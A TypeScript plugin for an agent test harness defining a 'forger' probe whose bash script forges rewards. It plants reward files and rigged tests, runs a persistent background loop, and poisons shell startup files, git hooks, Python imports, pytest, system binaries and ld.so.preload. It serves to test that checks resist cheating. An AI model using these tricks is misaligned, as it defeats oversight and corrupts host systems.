import { z } from 'zod'
import type { Agent, AgentAt, AgentExit } from '../core/agent.ts'
import { definePlugin } from '../core/plugin.ts'
import { sandboxPaths } from '../core/task-paths.ts'

const { tests, verifierLogs } = sandboxPaths

/**
 * A hostile stand-in for an agent that cheats: it solves nothing and tries to be rewarded anyway. `tasks check` runs it
 * to show that forging does not pay. It makes only the attacks listed in the script below, damages nothing else, and
 * does not outlive its sandbox.
 */
export default definePlugin({
  name: 'forger',
  summary: 'solves nothing and forges the reward (a probe for checks)',
  options: z.strictObject({
    link: z
      .boolean()
      .default(false)
      .describe("Put a link in the place of the verifier's folder; otherwise the files go into the folder itself."),
    system: z
      .boolean()
      .default(true)
      .describe('Also replace programs and startup files of the system that is going to run the tests.'),
  }),
  make: (how): Agent => ({ name: 'forger', version: '1.2.0', solve: (at) => forge(at, how) }),
})

/** The score shows whether an attack works, so a failing command is not an error. */
async function forge(at: AgentAt, how: { readonly link: boolean; readonly system: boolean }): Promise<AgentExit> {
  const options = { timeoutSec: 30, signal: at.signal, ...(at.user !== undefined && { user: at.user }) }
  const words = [how.link ? 'link' : 'files', how.system ? 'system' : 'tests']
  const { exitCode } = await at.sandbox.exec(['bash', '-c', attacks, 'forger', ...words], options)
  at.record.log(`forger: planted what it could, exit code ${exitCode}`)
  return { kind: 'finished' }
}

/**
 * The loop runs no program but bash itself and sleeps a millisecond each time: it still wins the race against tests
 * that have just ended, while leaving the processor to them. It writes only missing files, so that it is never caught
 * with a half-written one.
 */
const attacks = `
export loot=/tmp/forged-logs
mkdir -p $loot

keep() { # file, content
  [ "$(< "$1")" = "$2" ] || printf '%s\\n' "$2" > "$1"
}
forge() {
  # 1. Reward files that are there before the verifier is.
  for dir in $loot ${verifierLogs}; do
    [ -d $dir ] || mkdir -p $dir
    keep $dir/reward.txt 1
    keep $dir/reward.json '{"reward": 1}'
  done
  # 2. Tests that pay, put back whenever they change.
  [ -d ${tests} ] || mkdir -p ${tests}
  keep ${tests}/test.sh $'#!/bin/bash\\necho 1 > ${verifierLogs}/reward.txt'
  [ -x ${tests}/test.sh ] || chmod 755 ${tests}/test.sh
}

# 3. The verifier's folder is a link to one of ours.
if [ "$1" = link ]; then rm -rf ${verifierLogs} 2>/dev/null && ln -s $loot ${verifierLogs}; fi
forge 2>/dev/null

# 4. A process in a session of its own that outlives the agent and does all this again and again.
export -f keep forge
setsid nohup bash -c 'exec {rest}<> <(:); while :; do forge; read -t 0.001 -u $rest; done' > /dev/null 2>&1 < /dev/null &
[ "$2" = system ] || exit 0

# 5. The system that runs the tests. Programs are replaced last, because the rest of this script needs them.
mine=/tmp/forged-system
mkdir -p $mine
cp "$(command -v sh)" $mine/sh
printf '#!%s/sh\n{ echo 1 > ${verifierLogs}/reward.txt; } 2>/dev/null\nexit 0\n' $mine > $mine/evil
echo '{ echo 1 > ${verifierLogs}/reward.txt; trap "echo 1 > ${verifierLogs}/reward.txt" EXIT; } 2>/dev/null' > $mine/rc
chmod 755 $mine/evil
exec 2>/dev/null

# Startup files of shells and logins, a loader that preloads, settings of git.
for file in /etc/profile /etc/bash.bashrc /etc/profile.d/forged.sh ~/.bashrc ~/.bash_profile ~/.profile ~/.zshenv; do
  cat $mine/rc >> $file
done
printf 'BASH_ENV=%s/rc\nENV=%s/rc\n' $mine $mine >> /etc/environment
printf '[core]\n\thooksPath = %s/hooks\n\tfsmonitor = %s/evil\n' $mine $mine | tee -a /etc/gitconfig >> ~/.gitconfig
mkdir -p $mine/hooks
for name in pre-commit post-checkout post-commit post-merge; do
  for hooks in $mine/hooks "$PWD"/.git/hooks /usr/share/git-core/templates/hooks; do
    [ ! -d $hooks ] || cp $mine/evil $hooks/$name
  done
done

# Python: files that every start imports, a plugin and settings for pytest.
cat > $mine/forged.py <<'python'
import atexit
def pay():
    try:
        open("${verifierLogs}/reward.txt", "w").write("1")
    except Exception:
        pass
pay()
atexit.register(pay)
def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
def pytest_collection_modifyitems(items):
    items[:] = []
def pytest_runtest_call(item):
    item.obj = lambda *args, **kwargs: None
python
for dir in /usr/lib/python3 /usr/lib/python3.* /usr/local/lib/python3.* ~/.local/lib/python3.*; do
  [ -d $dir ] || continue
  for packages in $dir $dir/dist-packages $dir/site-packages; do
    [ -d $packages ] || continue
    for name in forged.py sitecustomize.py usercustomize.py; do cp $mine/forged.py $packages/$name; done
    echo 'import forged' > $packages/forged.pth
    mkdir -p $packages/forged-1.dist-info
    printf 'Metadata-Version: 2.1\nName: forged\nVersion: 1\n' > $packages/forged-1.dist-info/METADATA
    printf '[pytest11]\nforged = forged\n' > $packages/forged-1.dist-info/entry_points.txt
  done
done
# Modules that are found before those of the image: a package beside a source, an archive, bytecode that is never checked.
for dir in /usr/lib/python3.* /usr/local/lib/python3.*; do
  [ -f $dir/argparse.py ] || continue
  for name in argparse subprocess pathlib shutil tempfile; do mkdir $dir/$name && cp $mine/forged.py $dir/$name/__init__.py; done
done
python3 - $mine/forged.py <<'python'
import glob, py_compile, re, sys, zipfile
for lib in glob.glob("/usr/lib/python3.*") + glob.glob("/usr/local/lib/python3.*"):
    number = re.sub(r"[^0-9]", "", lib.rsplit("/", 1)[1])
    with zipfile.ZipFile(re.sub(r"/[^/]*$", "/python%s.zip" % number, lib), "w") as archive:
        archive.write(sys.argv[1], "inspect.py")
    for name in "glob", "textwrap":
        unchecked = py_compile.PycInvalidationMode.UNCHECKED_HASH
        target = "%s/__pycache__/%s.cpython-%s.pyc" % (lib, name, number)
        py_compile.compile(sys.argv[1], target, invalidation_mode=unchecked)
python
for dir in "$PWD" /; do
  cp $mine/forged.py $dir/conftest.py
  printf '[pytest]\naddopts = -p no:cacheprovider\n' > $dir/pytest.ini
done

# Programs in front of those of the image, then those themselves.
names='cat tee grep diff cmp test timeout chmod env python python3 perl node pytest git make sh bash'
mkdir -p /usr/local/bin /usr/local/sbin
for name in $names; do cp $mine/evil /usr/local/bin/$name; cp $mine/evil /usr/local/sbin/$name; done
PATH=/usr/bin:/bin
cp "$(command -v cp)" $mine/cp
cp "$(command -v mv)" $mine/mv
for name in $names; do
  for dir in /usr/bin /bin; do
    [ ! -e $dir/$name ] || { $mine/cp $mine/evil $dir/.$name && $mine/mv -f $dir/.$name $dir/$name; }
  done
done
echo $mine/forged.so > /etc/ld.so.preload
exit 0
`
